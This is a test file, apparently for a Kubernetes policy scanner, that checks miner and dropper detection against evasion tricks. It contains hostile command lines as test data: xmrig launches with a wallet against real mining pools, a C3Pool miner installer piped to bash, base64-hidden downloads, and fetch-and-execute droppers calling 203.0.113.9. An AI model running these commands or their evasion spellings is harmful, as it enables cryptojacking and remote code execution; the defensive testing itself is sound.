// The gates in front of the detection steps, attacked by someone who has read them (issue 10,
// item 7). A gate that is not truly necessary is an evasion: a miner that slips past it is never
// read. Each attack below is a pod an attacker would write to get past one gate; each asserts the
// answer a user sees (refused or warned, by which policy) and, where the step has an ungated
// reference, that the gated step says exactly what the ungated one says about every line.
import fc from 'fast-check'
import t, { type Test } from 'tap'
import { podEnvironment } from '../../src/detect/container-sources.ts'
import { commandLines, containerTexts } from '../../src/detect/container-text.ts'
import { isDetectionTool } from '../../src/detect/data-context.ts'
import { compileInstallerFinder } from '../../src/detect/installer-urls.ts'
import { compilePackageIndex, describeInstall } from '../../src/detect/malicious-packages.ts'
import { mayBeMinerConfig, minerConfigSigns, readMinerConfig } from '../../src/detect/miner-config.ts'
import { compileGrammar, compileUngatedGrammar, envCommandLine, namesPoolAndAccount } from '../../src/detect/miner-grammar.ts'
import { readInstalls } from '../../src/detect/package-installs.ts'
import { compileSignalScanner, type Signal } from '../../src/detect/signals.ts'
import { evaluate } from '../../src/engine/evaluate.ts'
import { loadIntel } from '../../src/intel/load.ts'
import type { InstallerEntry } from '../../src/intel/types.ts'
import type { KubeObject, V1Container } from '../../src/workloads/kubernetes.ts'
import { fuzzRuns } from '../helpers/fuzz.ts'
import { defaultPolicies } from '../helpers/server.ts'
import { defaultSignalData } from '../helpers/signal-data.ts'

const W = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
const SEED = 20261202
const policySet = await defaultPolicies()
const intel = await loadIntel(new URL('../../policies/data/intel/', import.meta.url).pathname)
const lists = { algorithms: ['rx/0', 'kawpow', 'scrypt', 'ethash', 'randomx'] }
const gated = compileGrammar(lists)
const ungated = compileUngatedGrammar(lists)

function podOf(container: Partial<V1Container>, spec: object = {}) {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'p', namespace: 'ns' },
    spec: { containers: [{ name: 'c', image: 'debian:12-slim', ...container }], ...spec },
  }
}

/** What the user sees from one policy: each finding's action and the start of its message. */
function verdicts(container: Partial<V1Container>, policy: string, spec: object = {}): { action: string; message: string }[] {
  return evaluate({ object: podOf(container, spec) }, policySet)
    .findings.filter((finding) => finding.policy === policy)
    .map(({ action, message }) => ({ action, message }))
}

/** The container's texts as the policies read them, with its pod's environment. */
function textsOf(container: Partial<V1Container>, spec: object = {}) {
  const pod = podOf(container, spec)
  return containerTexts(pod.spec.containers[0] as V1Container, undefined, podEnvironment({}, pod.spec, [], 'attack'))
}

/** Every command line miner-signals hands the grammar for this container, the env-spelt one too. */
function grammarLines(container: Partial<V1Container>, spec: object = {}): string[] {
  const pod = podOf(container, spec)
  const environment = podEnvironment({}, pod.spec, [], 'attack')
  const texts = containerTexts(pod.spec.containers[0] as V1Container, undefined, environment)
  return [...commandLines(texts).map((line) => line.text), envCommandLine(container.env)]
}

/** A test name for white space: a raw U+2028 or U+2029 would end the TAP line. */
function codePoints(text: string): string {
  return [...text].map((character) => `U+${(character.codePointAt(0) as number).toString(16).padStart(4, '0')}`).join(' ')
}

function grammarSays(grammar: typeof gated, text: string): { quotes: string[]; connects: boolean } {
  const quotes: string[] = []
  const connects = grammar(text, (quote) => quotes.push(quote))
  return { quotes, connects }
}

/** The lines where the gated grammar says something else than the ungated one (none, for a sound gate). */
function gateDiffers(container: Partial<V1Container>, spec: object = {}): string[] {
  return grammarLines(container, spec).filter((text) => JSON.stringify(grammarSays(gated, text)) !== JSON.stringify(grammarSays(ungated, text)))
}

function refusedAsMinerCommandLine(t: Test, container: Partial<V1Container>, spec: object = {}) {
  const found = verdicts(container, 'miner-signals', spec)
  t.equal(found[0]?.action, 'deny', JSON.stringify(found))
  t.match(found[0]?.message, /miner command line/)
  t.same(gateDiffers(container, spec), [])
}

t.test("the grammar's gate: the endpoint option and the word end cannot be hidden from it", async (t) => {
  t.test('long options with `=` are read through the gate', async (t) => {
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '--url=pool.example.net:3333', '--user=worker1', '--tls'] })
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-o=pool.example.net:3333', '-u=worker1', '--donate-level=1'] })
  })

  t.test('a `:` or an option name assembled by $(VAR) is in the text the gate reads (the kubelet expands it first)', async (t) => {
    refusedAsMinerCommandLine(t, {
      env: [
        { name: 'O', value: '-o' },
        { name: 'C', value: ':' },
      ],
      args: ['$(O)', 'pool.example.net$(C)3333', '-u', 'worker1', '-k', '--tls'],
    })
    refusedAsMinerCommandLine(t, {
      env: [
        { name: 'DASH', value: '-' },
        { name: 'PORT', value: ':3333' },
      ],
      args: ['$(DASH)$(DASH)url', 'pool.example.net$(PORT)', '$(DASH)u', 'worker1', '$(DASH)k'],
    })
  })

  t.test('a `:` or an option name assembled by the shell (braced or bare variables) is in the shell-expanded text the gate reads', async (t) => {
    const env = [
      { name: 'O', value: '-o' },
      { name: 'C', value: ':3333' },
    ]
    refusedAsMinerCommandLine(t, { env, command: ['sh', '-c', `/usr/local/bin/svc \${O} pool.example.net$C -u worker1 -k --tls`] })
    refusedAsMinerCommandLine(t, { env, command: ['/bin/bash', '-c', `/usr/local/bin/svc "$O" "pool.example.net\${C}" -u worker1 --nicehash`] })
  })

  t.test('a host and a port kept in two env values and joined by the shell or the kubelet pass the gate', async (t) => {
    const env = [
      { name: 'HOST', value: 'pool.example.net' },
      { name: 'PORT', value: '3333' },
    ]
    refusedAsMinerCommandLine(t, { env, command: ['sh', '-c', '/usr/local/bin/svc -o $HOST:$PORT -u worker1 -k'] })
    refusedAsMinerCommandLine(t, { env, args: ['-o', '$(HOST):$(PORT)', '-u', 'worker1', '--tls'] })
  })

  t.test("a line without any `:` (GMiner's port in its own option, xmrig's default port) passes the gate", async (t) => {
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '--algo', 'kawpow', '--server', 'pool.example.net', '--port', '6060', '--user', 'worker1'] })
    refusedAsMinerCommandLine(t, { command: ['sh', '-c', '/usr/local/bin/svc -a kawpow -kBs pool.example.net -n6060 -u worker1'] })
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-o', 'pool.example.net', '-u', 'worker1', '--donate-level', '1'] })
    refusedAsMinerCommandLine(t, {
      env: [
        { name: 'S', value: '--server' },
        { name: 'N', value: '--port' },
      ],
      args: ['--algo', 'kawpow', '$(S)', 'pool.example.net', '$(N)', '6060', '--user', 'worker1'],
    })
  })

  t.test('an env-only command line (POOL_URL, WALLET ...) in any case passes the env names gate', async (t) => {
    for (const [url, user, donate] of [
      ['POOL_URL', 'WALLET', 'DONATE_LEVEL'],
      ['pool_url', 'wallet', 'donate_level'],
      ['Pool_Url', 'Wallet_Address', 'Donate_Level'],
    ] as const) {
      refusedAsMinerCommandLine(t, {
        env: [
          { name: url, value: 'pool.example.net:3333' },
          { name: user, value: 'worker1' },
          { name: donate, value: '1' },
        ],
      })
    }
  })

  t.test('getopt spellings xmrig accepts (a value attached, flags clustered, --ur for --url) are read and pass the gate', async (t) => {
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-opool.example.net:3333', '-uworker1', '-k'] })
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-kBo', 'pool.example.net:3333', '-u', 'worker1'] })
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-kopool.example.net:3333', '-Bu', 'worker1'] })
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '-So', 'stratum+tcp://pool.example.net:3333', `-u${W}`] })
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '--ur=pool.example.net:3333', '-u', 'worker1', '--tls'] })
    refusedAsMinerCommandLine(t, { command: ['/usr/local/bin/svc', '--ur', 'pool.example.net:3333', '-u', 'worker1', '-px'] })
  })

  t.test('an option whose value a script quotes after `=` (--url="pool:3333") is read with that value', async (t) => {
    refusedAsMinerCommandLine(t, { command: ['sh', '-c', '/usr/local/bin/svc --url="pool.example.net:3333" --user="worker1" -k'] })
    refusedAsMinerCommandLine(t, { command: ['sh', '-c', "/usr/local/bin/svc --url='pool.example.net:3333' --user=worker1 --tls"] })
    refusedAsMinerCommandLine(t, { command: ['sh', '-c', '/usr/local/bin/svc -o="pool.example.net:3333" -u="worker1" --donate-level="1"'] })
    t.same(grammarSays(gated, './svc --url= --user=w -k').quotes, [], 'an empty value takes no separator or option as its value')
  })

  t.test('words that only look like clusters are not read as miner options', async (t) => {
    const quotes = (text: string) => grammarSays(gated, text).quotes
    t.same(quotes('java -Duser.home=/x -Dpool=db.example:5432 -jar app.jar -o db.example:5432 -k'), [], 'a -D property is no account')
    t.same(quotes('curl -kso out.example:1 -u user:pw https://x.example/'), [], 'curl letters that are no miner flag end the cluster')
    t.same(quotes('./svc -o=pool.example.net:3333 -u=w -k'), ['-o pool.example.net:3333 -u … -k'], '`-o=` keeps its meaning')
  })

  t.test('every endpoint spelling the grammar reads passes the gate', async (t) => {
    const spellings = [
      '-o ',
      '-o=',
      '-o',
      '-P ',
      '-P=',
      '-P',
      '-kBo ',
      '-Bko',
      '-SP ',
      '--url ',
      '--url=',
      '--ur ',
      '--ur=',
      '--pool ',
      '--pool=',
      '--dualpool ',
      '--dualpool=',
      '-p ',
      '-p=',
      '-kBp',
      '-pool1 ',
      '-pool12=',
      '--server ',
      '--server=',
      '-s ',
      '-s',
      '-kBs ',
    ]
    for (const spelling of spellings) {
      const text = `${spelling}pool.example.net:3333 -u w -k --nicehash`
      t.same(grammarSays(gated, text), grammarSays(ungated, text), text)
      t.equal(grammarSays(gated, text).quotes.length, 1, text)
    }
  })

  t.test('white space the gate does not list as a word end is no word end for the grammar either', async (t) => {
    // No-break space, ideographic space, zero-width space and NUL: xmrig's getopt sees one word, and so does the grammar.
    for (const gap of ['\u00a0', '\u3000', '\u200b', '\u0000', '\u2028']) {
      const container = { command: ['sh', '-c', ['/usr/local/bin/svc', '-o', 'pool.example.net:3333', '-u', 'worker1', '-k'].join(gap)] }
      t.same(gateDiffers(container), [], codePoints(gap))
    }
  })

  t.test('look-alike dashes and colons are no option or port for the miner: gated and ungated agree', async (t) => {
    for (const command of [
      ['/x', '\u2010o', 'pool.example.net:3333', '-u', 'worker1', '-k'],
      ['/x', '\u2212\u2212url', 'pool.example.net:3333', '--user', 'worker1', '--tls'],
      ['/x', '-o', 'pool.example.net\uff1a3333', '-u', 'worker1', '-k'],
      ['/x', '-\u043e', 'pool.example.net:3333', '-u', 'worker1', '-k'],
    ]) {
      t.same(gateDiffers({ command }), [], JSON.stringify(command))
    }
  })

  t.test('random command lines with look-alikes, control characters and every white space: gated equals ungated', async (t) => {
    const piece = fc.oneof(
      fc.constantFrom('-o', '-P', '--url', '--pool', '--dualpool', '-u', '--user', '-k', '--tls', '-p', 'x', '-a', 'rx/0', '=', ':', '-'),
      fc.constantFrom('pool.example.net:3333', 'pool.example.net', '203.0.113.9:443', 'stratum+tcp://a.example:1', '-opool.example.net:3333', '-kBo'),
      fc.constantFrom('--ur', '--ur=a.example:1', '-So', '-ku', '-Bu', '-kopool.example.net:3333', '-k=', '-o=', '-kB', '-S', '-Duser.home', '-px'),
      fc.constantFrom('--server', '-s', '-kBs', '--port', '-n', '-n6060', '6060', '-pool1', '-wallet', '-algo', 'kawpow', '--donate-level', '[1]'),
      fc.constantFrom('\u2010', '\u2212', '\uff1a', '\ufe55', '\u043e', '\u041e', '\u0000', '\u001b', '\u0085', '\u00a0', '\u2028', '\u200b'),
      fc.constantFrom(' ', '\t', '\v', '\f', '\r', '\n', ';', '|', '&', "'", '"', '`'),
      fc.string({ unit: 'binary', maxLength: 3 }),
    )
    t.doesNotThrow(() =>
      fc.assert(
        fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
          const text = pieces.join('')
          return JSON.stringify(grammarSays(gated, text)) === JSON.stringify(grammarSays(ungated, text))
        }),
        { seed: SEED, numRuns: fuzzRuns(2000) },
      ),
    )
  })
})

t.test('the config gate: a miner config cannot start with a character the gate turns away', async (t) => {
  const config = '{"pools":[{"url":"pool.example.net:3333","user":"worker1"}],"donate-level":1}'
  const refusedAsConfig = (t: Test, text: string) => {
    t.same(minerConfigSigns(text), readMinerConfig(text), codePoints(text.slice(0, 4)))
    const found = verdicts({ env: [{ name: 'CFG', value: text }] }, 'miner-signals')
    t.equal(found[0]?.action, 'deny', JSON.stringify(found))
    t.match(found[0]?.message, /miner configuration/)
  }

  t.test('JSON5 spellings xmrig reads (single quotes, unquoted keys, trailing commas) pass the gate', async (t) => {
    refusedAsConfig(t, "{'pools':[{'url':'pool.example.net:3333','user':'worker1',},],'donate-level':1}")
    refusedAsConfig(t, '{pools:[{url:"pool.example.net:3333",user:"worker1"}],"donate-level":1,}')
    refusedAsConfig(t, `\ufeff\u2029\u205f\t${config}`)
  })

  t.test('a config that opens with comments (xmr-stak writes pools.txt so; xmrig reads comments) is read and passes the gate', async (t) => {
    refusedAsConfig(t, `/* pools for svc */\n${config}`)
    refusedAsConfig(t, `// pools\r\n\ufeff  // more\u2028/**/${config}`)
    const poolsTxt = '/*\n * pool_address - Pool address should be entered as "pool_address:port"\n */\n'
    refusedAsConfig(t, `${poolsTxt}"pool_list" : [ {"pool_address" : "pool.example.net:3333", "wallet_address" : "worker1", "pool_password" : "x"} ],`)
    t.equal(readMinerConfig(`/* never closed ${config}`), undefined, 'an unclosed comment hides everything after it, as it does from the miner')
    t.equal(readMinerConfig(`// one line ${config}`), undefined, 'a line comment to the end hides the config from the miner too')
    t.notOk(mayBeMinerConfig('/usr/local/bin/svc'), 'a path is no comment: the gate still turns it away')
  })

  t.test('a config mounted from a ConfigMap passes the gate as an env value does', async (t) => {
    const spec = { volumes: [{ name: 'cfg', configMap: { name: 'miner' } }] }
    const container = { volumeMounts: [{ name: 'cfg', mountPath: '/etc/svc' }] }
    const object = podOf(container, spec) as KubeObject
    const configMap: KubeObject = {
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'miner', namespace: 'ns' },
      data: { 'config.json': `\ufeff${config}` },
    }
    const found = evaluate({ object, related: [configMap] }, policySet).findings.filter((finding) => finding.policy === 'miner-signals')
    t.equal(found[0]?.action, 'deny', JSON.stringify(found))
    t.match(found[0]?.message, /miner configuration/)
  })
})

/** An installer entry for a host no text here names: it switches the dot gate off, so the finder reads every text. */
const DOTLESS = { prefix: 'gate-off-host', source: 'test', date: '2026-12' } as InstallerEntry
const findGated = compileInstallerFinder(intel.installers)
const findUngated = compileInstallerFinder([...intel.installers, DOTLESS])

t.test("the installer search's dot gate: a listed host cannot be named without a dot", async (t) => {
  const refusedAsInstaller = (t: Test, container: Partial<V1Container>) => {
    const found = verdicts(container, 'miner-signals')
    t.equal(found[0]?.action, 'deny', JSON.stringify(found))
    t.match(found[0]?.message, /downloads a miner installer/)
    const pod = podOf(container)
    const texts = containerTexts(pod.spec.containers[0] as V1Container, undefined, podEnvironment({}, pod.spec, [], 'attack'))
    t.same(findGated(texts), findUngated(texts))
  }
  const script = 'raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh'

  t.test('a host in capitals or with its trailing dot passes the gate', async (t) => {
    refusedAsInstaller(t, { command: ['sh', '-c', `curl -sL https://${script.toUpperCase()} | bash -s ${W}`] })
    refusedAsInstaller(t, { command: ['sh', '-c', `curl -sL https://${script.replace('.com/', '.com./')} | bash -s ${W}`] })
  })

  t.test('dots assembled by $(VAR) or by the shell are in the text the gate reads', async (t) => {
    const env = [{ name: 'D', value: '.' }]
    refusedAsInstaller(t, { env, command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '$(D)')} | bash`] })
    refusedAsInstaller(t, { env, command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', `\${D}`)} | bash`] })
  })

  t.test('a host whose every dot is escaped (%2e) or an IDNA dot passes the gate', async (t) => {
    refusedAsInstaller(t, { command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '%2e')} | bash`] })
    refusedAsInstaller(t, { command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '%E3%80%82')} | bash`] })
    // The IDNA spelling reaches the search as the scanner's IDN-mapped copy, which has its dots.
    const found = verdicts({ command: ['sh', '-c', `curl -sL https://${script.replaceAll('.', '\u3002')} | bash`] }, 'miner-signals')
    t.match(found[0]?.message, /\(IDN-mapped\): downloads a miner installer/)
  })

  t.test('a download hidden in base64 passes the gate through its decoded text', async (t) => {
    const hidden = Buffer.from(`curl -sL https://${script} | bash`).toString('base64')
    refusedAsInstaller(t, { command: ['sh', '-c', `echo ${hidden} | base64 -d | sh`] })
  })
})

t.test('the data-context read: a miner run after a detection tool in the same line is no detection tool', async (t) => {
  const launched = (t: Test, script: string) => {
    const found = verdicts({ command: ['sh', '-c', script] }, 'miner-signals')
    t.ok(found.length > 0, JSON.stringify(script))
    t.not(found[0]?.action, 'audit', JSON.stringify(found))
  }
  // A miner's start script that checks the CPU first: its first program is grep, its last is the miner.
  launched(t, `grep -q aes /proc/cpuinfo && /tmp/xmrig -o pool.supportxmr.com -u ${W} -k`)
  launched(t, `grep -q x /etc/hostname; /tmp/xmrig -o pool.supportxmr.com -u ${W} -k`)
  launched(t, `clamscan -r /data | /tmp/xmrig -o pool.supportxmr.com -u ${W}`)
  launched(t, `grep -c processor /proc/cpuinfo\n/tmp/xmrig --url pool.supportxmr.com --user ${W} --donate-level 1`)
  launched(t, `grep -q x /f $(/tmp/xmrig -o pool.supportxmr.com -u ${W} -k)`)
  // The detection tools themselves stay data: quotes hide their alternations, and what follows only counts or exits.
  const quiet = (script: string) => t.same(verdicts({ command: ['sh', '-c', script] }, 'miner-signals'), [], script)
  quiet(`grep -lE 'xmrig|minerd|stratum\\+tcp|supportxmr' /proc/*/cmdline || true`)
  quiet('grep -q -E "xmrig|minerd|nanopool" /proc/*/cmdline && exit 1 || exit 0')
  quiet('grep -rl xmrig /host/usr/bin 2>&1 | wc -l')
  quiet('yara -r /rules/xmrig.yar /host; echo done')
  quiet('grep -l xmrig /proc/*/cmdline | grep -c minerd')
  t.ok(isDetectionTool('grep -l xmrig /proc/*/cmdline | rg -c minerd'), 'a tool piped into a tool')
  t.notOk(isDetectionTool('grep -l xmrig /proc/*/cmdline | sh'), 'a tool piped into a shell')
  t.notOk(isDetectionTool('grep -l xmrig /proc/*/cmdline | xargs /tmp/xmrig'), 'a tool piped into xargs, which runs what follows')
  t.ok(isDetectionTool('grep -q xmrig /proc/*/cmdline && pkill xmrig; sleep 60'), 'a tool that kills what it found, then waits')
  quiet('grep -c xmrig\\|minerd /proc/*/cmdline && exit 1')
  quiet('grep -c -E "\\"xmrig|minerd\\"" /proc/*/cmdline &> /dev/null || exit 0')
})

// A pool endpoint without its port (xmrig's default is 3333) is no endpoint to the grammar's reports,
// but the line connects all the same: the data context must not excuse the names in it.
t.test('a port-less miner line that names a rule file, ends in prose or lists three pools is still refused', async (t) => {
  for (const script of [
    `/tmp/xmrig -o pool.supportxmr.com -u ${W} -k # see rules.yar`,
    `/tmp/xmrig -o pool.supportxmr.com -u ${W} -k; echo Mining has started now. Have a very nice day.`,
    `/tmp/xmrig -o pool.supportxmr.com -o pool.hashvault.pro -o gulf.moneroocean.stream -u ${W} -k`,
  ]) {
    t.equal(verdicts({ command: ['sh', '-c', script] }, 'miner-signals')[0]?.action, 'deny', script)
  }
  t.equal(
    verdicts({ command: ['sh', '-c', `/tmp/xmrig -o pool.supportxmr.com:3333 -o pool.hashvault.pro:443 -u ${W} -k # rules.yar`] }, 'miner-signals')[0]?.action,
    'deny',
    'with its ports the line connects, and is never data',
  )
})

const packageIndex = compilePackageIndex(intel.packages)

/** What malicious-packages would refuse without its gate: every listed install read word by word from every command line. */
function ungatedPackages(container: Partial<V1Container>): string[] {
  const found = new Set<string>()
  for (const line of commandLines(textsOf(container))) {
    for (const install of readInstalls(line.text)) if (packageIndex(install) !== undefined) found.add(describeInstall(install))
  }
  return [...found]
}

t.test("malicious-packages' gate: an installer program cannot be named so that the gate misses it and the reader does not", async (t) => {
  const refusedAsPackage = (t: Test, container: Partial<V1Container>) => {
    const found = verdicts(container, 'malicious-packages')
    const name = JSON.stringify(container)
    t.equal(found[0]?.action, 'deny', name)
    t.ok(packageIndex.mayMatchIn(textsOf(container)), name)
    t.equal(found.length, ungatedPackages(container).length, name)
  }
  const pinned = 'ultralytics==8.3.41'
  for (const container of [
    { command: ['pip3.12', 'install', pinned] },
    { command: ['/usr/local/bin/python3', '-m', 'pip', 'install', 'Ultralytics==8.3.41'] },
    { command: ['python3', '-u', '-m', 'pip', 'install', '-U', pinned] },
    { command: ['uv', 'pip', 'install', pinned] },
    { command: ['/usr/bin/npm', 'i', '@rspack/core@1.1.7'] },
    { command: ['npx', '--yes', '@rspack/cli@1.1.7', 'build'] },
    { command: ['/usr/local/bin/pnpm', 'add', '@rspack/core@v1.1.7'] },
    { command: ['sh', '-c', `PIP install ${pinned}`] },
    { command: ['sh', '-c', `pip\tinstall\t${pinned}`] },
    { command: ['sh', '-c', `sudo -H env A=1 pip install --no-cache-dir ${pinned}`] },
    { command: ['sh', '-c', `exec pip install ${pinned}`] },
    { env: [{ name: 'P', value: 'pip' }], args: ['$(P)', 'install', pinned] },
    { env: [{ name: 'P', value: 'pip' }], command: ['sh', '-c', `$P install ${pinned}`] },
    { env: [{ name: 'X', value: 'i' }], command: ['sh', '-c', `p\${X}p install ${pinned}`] },
    { env: [{ name: 'CMD', value: `python -m pip install ${pinned}` }], command: ['sh', '-c', '$CMD'] },
    { lifecycle: { postStart: { exec: { command: ['pip', 'install', pinned] } } } },
    { livenessProbe: { exec: { command: ['sh', '-c', `pip install ${pinned} && true`] } } },
    // The shell removes a backslash-newline and quotes inside a word before pip sees its words.
    { command: ['sh', '-c', `pip install \\\n  ${pinned}`] },
    { command: ['sh', '-c', `p''ip install "ultra"lytics==8.3.41`] },
  ] as Partial<V1Container>[]) {
    refusedAsPackage(t, container)
  }
  // A look-alike letter is another program to the shell: neither the gate nor the reader sees pip, and no pip runs.
  for (const program of ['p\u0456p', 'P\u0130P', 'n\u0440m']) {
    const container = { command: [program, 'install', pinned] }
    t.notOk(packageIndex.mayMatchIn(textsOf(container)), program)
    t.same(ungatedPackages(container), [], program)
  }
})

t.test('installs by an abbreviation, a runner or an option are read and refused, gated as ungated', async (t) => {
  for (const container of [
    { command: ['npm', 'inst', '@rspack/core@1.1.7'] },
    { command: ['npm', 'in', '@rspack/core@1.1.7'] },
    { command: ['/usr/bin/npm', 'isnta', '@rspack/core@1.1.7'] },
    { command: ['npm', 'exec', '--yes', '--', '@rspack/cli@1.1.7'] },
    { command: ['npm', 'x', '-y', '@rspack/cli@1.1.7'] },
    { command: ['yarn', 'dlx', '@rspack/cli@1.1.7'] },
    { command: ['npm', 'exec', '--package=@rspack/cli@1.1.7', '--', 'rspack', 'build'] },
    { command: ['npx', '-p', '@rspack/cli@1.1.7', '-p', 'left-pad', 'rspack'] },
    { command: ['python3', '-mpip', 'install', 'ultralytics==8.3.41'] },
    { command: ['/usr/bin/python3.12', '-u', '-Impip3', 'install', 'ultralytics==8.3.41'] },
    { command: ['sh', '-c', 'exec python -mpip install -q "ultralytics==8.3.41"'] },
    { command: ['npm', 'install', 'x@npm:@rspack/core@1.1.7'] },
    { command: ['sh', '-c', 'pnpm add @rspack/core@npm:@rspack/core@1.1.7'] },
    { command: ['uvx', 'ultralytics@8.3.41'] },
    { command: ['uv', 'tool', 'run', '--from', 'ultralytics==8.3.41', 'yolo'] },
    { command: ['uvx', '--with', 'requests,ultralytics==8.3.41', 'black'] },
    { command: ['uv', 'run', '--with', 'ultralytics==8.3.41', 'yolo'] },
    { command: ['uv', 'run', '--python', '3.12', '--with=ultralytics==8.3.41', 'yolo'] },
    // -v is verbose to pip: the word after it is a package, not a version.
    { command: ['pip', 'install', '-v', 'ultralytics==8.3.41'] },
  ] as Partial<V1Container>[]) {
    const name = JSON.stringify(container)
    const found = verdicts(container, 'malicious-packages')
    t.equal(found[0]?.action, 'deny', name)
    t.ok(packageIndex.mayMatchIn(textsOf(container)), name)
    t.equal(found.length, ungatedPackages(container).length, name)
  }
  // `npm instx` and `npm i-` are no install to npm: an abbreviation is a prefix of install, nothing more.
  for (const sub of ['instx', 'installs', 'ix', 'exe']) t.same(ungatedPackages({ command: ['npm', sub, '@rspack/core@1.1.7'] }), [], sub)
})

t.test("miner-images' cut-by-position parsing and account lookup: every spelling of a listed publisher is refused", async (t) => {
  const refusedImage = (image: string, reason: RegExp) => {
    const found = verdicts({ image }, 'miner-images')
    t.equal(found[0]?.action, 'deny', image)
    t.match(found[0]?.message, reason, image)
  }
  for (const image of [
    'gakeaws/nginx',
    'gakeaws/nginx:1.27',
    'docker.io/gakeaws/nginx',
    'index.docker.io/gakeaws/nginx:latest',
    'registry-1.docker.io:443/gakeaws/nginx',
    'REGISTRY.HUB.DOCKER.COM/gakeaws/nginx',
    'mirror.gcr.io/gakeaws/nginx@sha256:0000000000000000000000000000000000000000000000000000000000000000',
    'harbor.example/dockerhub-proxy/gakeaws/nginx',
    'harbor.example:8443/team/hub/gakeaws/nginx:1',
    'gitlab.example/group/dependency_proxy/containers/gakeaws/nginx',
    ' gakeaws/nginx ',
  ]) {
    refusedImage(image, /account that publishes crypto-miners/)
  }
  for (const image of ['xmrig/xmrig', 'docker.io/xmrig/xmrig:v6', 'mirror.gcr.io:443/xmrig/xmrig', 'harbor.example/hub/xmrig/xmrig']) {
    refusedImage(image, /known crypto-miner image/)
  }
  // Not the account: a longer name that starts with it, and the account's name deeper in another path.
  t.same(verdicts({ image: 'gakeawsx/nginx' }, 'miner-images'), [])
  t.same(verdicts({ image: 'quay.io/team/gakeaws/nginx' }, 'miner-images'), [])
})

t.test('quotes and backslashes the shell removes inside a word do not hide a miner', async (t) => {
  const env = [{ name: 'D', value: '.' }]
  for (const script of [
    `curl -sL https://raw.githubusercontent"\${D}"com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | bash`,
    `/tmp/x''mrig -o pool.supportxmr.com -u ${W} -k`,
    `curl -sL https://raw.githubusercontent"."com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | bash -s ${W}`,
    `/usr/local/bin/svc -o pool.example.net":"3333 -u worker1 -k`,
    `/usr/local/bin/svc '-'o pool.example.net:3333 -u worker1 -k`,
    `/usr/local/bin/svc -\\o pool.example.net:3333 -u worker1 -k`,
  ]) {
    // Gated and ungated still agree on every text, the shell-unquoted one among them.
    const container = { env, command: ['sh', '-c', script] }
    t.same(gateDiffers(container), [], script)
    t.same(findGated(textsOf(container)), findUngated(textsOf(container)), script)
    t.equal(verdicts(container, 'miner-signals')[0]?.action, 'deny', script)
  }
  t.same(
    textsOf({ env, command: ['/usr/local/bin/svc', '--name="a b"'] }).map((text) => text.field),
    ['env[0].value', 'command[0]', 'command[1]', 'command[1] (shell-unquoted)'],
    'a quoted item is read once more, unquoted',
  )
  t.same(
    textsOf({ env: [{ name: 'Q', value: "it's" }], command: ['/usr/local/bin/svc', '--flag'] }).map((text) => text.field),
    ['env[0].value', 'command[0]', 'command[1]'],
    'an env value keeps its quotes: a shell does not remove quotes from what it expands',
  )
})

const signalLists = await defaultSignalData()
const gatedScanner = compileSignalScanner(signalLists)
const ungatedScanner = compileSignalScanner(signalLists, { ungated: true })

function scannerSays(scan: typeof gatedScanner, container: Partial<V1Container>): Signal[] {
  const found: Signal[] = []
  scan(textsOf(container), found)
  return found
}

t.test(
  "the scanner's dropper gates: a dropper cannot be written without a pipe, a parenthesis, a backtick, a temporary directory or an executing word",
  async (t) => {
    const refusedAsDropper = (t: Test, script: string) => {
      const container = { command: ['sh', '-c', script] }
      const name = JSON.stringify(script)
      const gated = scannerSays(gatedScanner, container)
      t.same(gated, scannerSays(ungatedScanner, container), name)
      t.ok(
        gated.some((signal) => /to-shell|to-tmp|from-tmp/.test(signal.kind)),
        name,
      )
      t.not(verdicts(container, 'miner-signals')[0]?.action, undefined, name)
    }
    const url = 'http://203.0.113.9/x'
    for (const script of [
      // Pipes: spaced, tight, through sudo and busybox, into an interpreter by path.
      `curl -fsSL ${url}|sh`,
      `wget -qO- ${url} | sudo /bin/bash`,
      `curl -s ${url} | busybox sh`,
      // Temporary directories in any spelling the patterns take, with no pipe at all.
      `curl -o /var/tmp/.x ${url} && chmod +x /var/tmp/.x && /var/tmp/.x`,
      `wget -O /dev/shm/k ${url}; chmod 755 /dev/shm/k; /dev/shm/k`,
      `curl ${url} > /TMP/K; chmod +x /TMP/K`,
      // A non-ASCII character keeps the lower-cased copy away: the any-case gates answer.
      `curl -o /Tmp/\u00e9 ${url}; chmod +x /Tmp/\u00e9 # \u{1f600}`,
      // Substitutions and sourcing: parentheses and backticks, no pipe.
      `sh -c "$(curl -fsSL ${url})"`,
      `bash -c \`wget -qO- ${url}\``,
      `. <(curl -s ${url})`,
      `eval "$(echo Y3VybCB4 | base64 -d)"`,
      // One-liners that execute without a parenthesis: eval, os.system, subprocess.
      `perl -e 'use LWP::Simple; eval get("${url}")'`,
      `python3 -c "import os,urllib.request as u; os.system(u.urlopen('${url}').read())"`,
      `OS.SYSTEM(requests.get('${url}').text)`,
    ]) {
      refusedAsDropper(t, script)
    }
  },
)

t.test('a Perl one-liner that loads LWP with -M and evals what it gets is a dropper', async (t) => {
  for (const command of [
    ['perl', '-MLWP::Simple', '-e', 'eval get "http://203.0.113.9/x"'],
    ['sh', '-c', `perl -MLWP::Simple -e 'eval get q{http://203.0.113.9/x}'`],
    ['perl', '-MLWP::Simple', '-e', 'eval(get($ENV{U}))'],
    ['sh', '-c', `perl -MLWP::Simple -e 'exec(get($ENV{U}))'`],
